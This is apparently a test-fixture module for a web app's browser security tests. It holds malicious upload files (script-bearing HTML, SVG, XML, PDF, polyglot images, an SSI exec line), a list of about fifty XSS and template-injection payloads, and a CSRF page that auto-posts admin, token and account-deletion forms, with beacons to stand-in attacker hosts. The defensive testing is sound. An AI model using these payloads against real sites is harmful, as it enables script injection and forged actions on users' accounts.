"""What an attacker would send: files that browsers might run, texts that pages might run, and a
page on another site that posts every form. Each tells of a success by asking for /ran."""

from tests.live.browser import EVIL, URL

BEACON = f"fetch('//{EVIL}/ran');new Image().src='//{EVIL}/ran';window.ran&&ran('%s')"


def _beat(what: str) -> str:
    return BEACON % what


# By their last name, as stored. Each is also an item of the gallery.
FILES = {
    "page.html": f"<!doctype html><script>{_beat('html')}</script><img src=x onerror=\"ran('h')\">",
    "page.htm": f"<script>{_beat('htm')}</script>",
    "picture.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_beat("svg")}"><script>'
    f"{_beat('svg')}</script></svg>",
    "feed.xml": '<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>'
    f"{_beat('xml')}</h:script></x>",
    "page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>'
    f"{_beat('xhtml')}</script></html>",
    "style.xsl": '<?xml-stylesheet type="text/xsl" href="#"?><html '
    f'xmlns="http://www.w3.org/1999/xhtml"><script>{_beat("xsl")}</script></html>',
    "page.shtml": f'<!--#exec cmd="id" --><script>{_beat("shtml")}</script>',
    "code.js": _beat("js"),
    "code.mjs": _beat("mjs"),
    "style.css": f"*{{background:url('//{EVIL}/ran')}}",
    "paper.pdf": "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
    "endobj\ntrailer<</Root 1 0 R>>",
    "film.mp4": f"\0\0\0\x18ftypmp42<script>{_beat('mp4')}</script>",
    "photo.png": f"\x89PNG\r\n<html><script>{_beat('png')}</script></html>",
    "photo.gif": f"GIF89a/*<script>{_beat('gif')}</script>*/=1;{_beat('gif')}",
    "bare": f"<html><script>{_beat('bare')}</script></html>",
    "page.html.unknownext": f"<html><script>{_beat('unknown')}</script></html>",
}

# Texts for every name, tag, comment, report, reason; %s is replaced by a script.
_CORPUS = """
<script>%s</script>
"><script>%s</script>
'><script>%s</script>
</title><script>%s</script>
</textarea><script>%s</script>
</style><script>%s</script>
</noscript><script>%s</script>
--><script>%s</script>
]]><script>%s</script>
<ScRiPt>%s</sCrIpT>
<script src=//evil.example.net/ran></script>
<script/x>%s</script>
<<script>%s//<</script>
<img src=x onerror=%s>
<img src=x onerror="%s">
"><img src=x onerror=%s>
" onmouseover="%s" autofocus onfocus="%s
' onfocus='%s' autofocus='
" autofocus onfocus=%s x="
` onfocus=%s autofocus
<svg onload=%s>
<svg/onload=%s>
<svg><script>%s</script></svg>
<svg><animate onbegin=%s attributeName=x dur=1s>
<math><mtext><script>%s</script></mtext></math>
<body onload=%s>
<iframe srcdoc="<script>parent.%s</script>">
<iframe src="javascript:parent.%s">
<a href="javascript:%s">x</a>
javascript:%s
<input autofocus onfocus=%s>
<details open ontoggle=%s>
<video><source onerror=%s></video>
<audio src=x onerror=%s>
<marquee onstart=%s>
<object data="javascript:%s">
<embed src="javascript:%s">
<meta http-equiv=refresh content="0;javascript:%s">
<base href=//evil.example.net/>
<link rel=stylesheet href=//evil.example.net/ran>
<form action=//evil.example.net/ran><input type=submit autofocus>
{{7*7}}{%% print %s %%}${%s}<%%= %s %%>
&lt;script&gt;%s&lt;/script&gt;
\\x3cscript\\x3e%s\\x3c/script\\x3e
\\u003cscript\\u003e%s
%%3Cscript%%3E%s%%3C/script%%3E
"""
CORPUS = [
    line.replace("%s", f"ran({number})").replace("%%", "%")
    for number, line in enumerate(_CORPUS.strip().splitlines())
]


def forms(item: int, session: int, user: int, key: int) -> list[tuple[str, dict[str, str]]]:
    """Every act of the pages, with fields that it would do something with."""
    one, sure = str(item), {"sure": "1"}
    return [
        ("/signin", {"username": "mallory", "password": "mallory's own"}),
        ("/signup", {"username": "forged", "password": "long enough", "again": "long enough"}),
        ("/signout", {}),
        ("/theme", {"theme": "dark"}),
        ("/veil", {"veil": "lifted"}),
        ("/upload", {"listed": "0"}),
        ("/paste", {"text": "forged", "title": "forged", "language": ""}),
        (f"/{item}/comments", {"text": "forged"}),
        (f"/{item}/report", {"text": "forged"}),
        (f"/{item}/edit", {"rating": "nsfw", "tags": "for, ged, tags"}),
        (f"/{item}/delete", {}),
        ("/comments/1/delete", {}),
        ("/files/delete", {"id": one} | sure),
        ("/settings/token", {}),
        ("/settings/token/renew", {}),
        ("/settings/admin-token", {}),
        ("/settings/admin-token/renew", {}),
        ("/settings/keys", {"name": "forged"}),
        (f"/settings/keys/{key}/revoke", {}),
        ("/settings/sharex/nekos", {}),
        ("/settings/sharex/f0ckm", {}),
        ("/settings/password", {"old": "correct horse", "new": "forged 1", "again": "forged 1"}),
        (f"/settings/sessions/{session}/end", {}),
        ("/settings/sessions/end-others", {}),
        ("/settings/delete", {"password": "correct horse"}),
        ("/admin/queue", {"act": "approve", "item": one}),
        ("/admin/uploads/delete", {"item": one}),
        ("/admin/reports/1/close", {}),
        ("/admin/keys", {}),
        ("/admin/keys/1/revoke", {}),
        *(
            (f"/admin/users/{user}/{act}", {"confirm": "alice", "quota": "1"})
            for act in ("ban", "unban", "delete", "promote", "demote", "quota")
        ),
    ]


def forging_page(path: str, fields: dict[str, str]) -> str:
    """A page of another site that sends one of our forms by itself."""
    inputs = "".join(f'<input name="{name}" value="{fields[name]}">' for name in fields)
    kind = ' enctype="multipart/form-data"' if path == "/upload" else ""
    return (
        f'<!doctype html><form method="post" action="{URL}{path}"{kind}>{inputs}'
        '<input type="file" name="file"></form><script>document.forms[0].submit()</script>'
    )
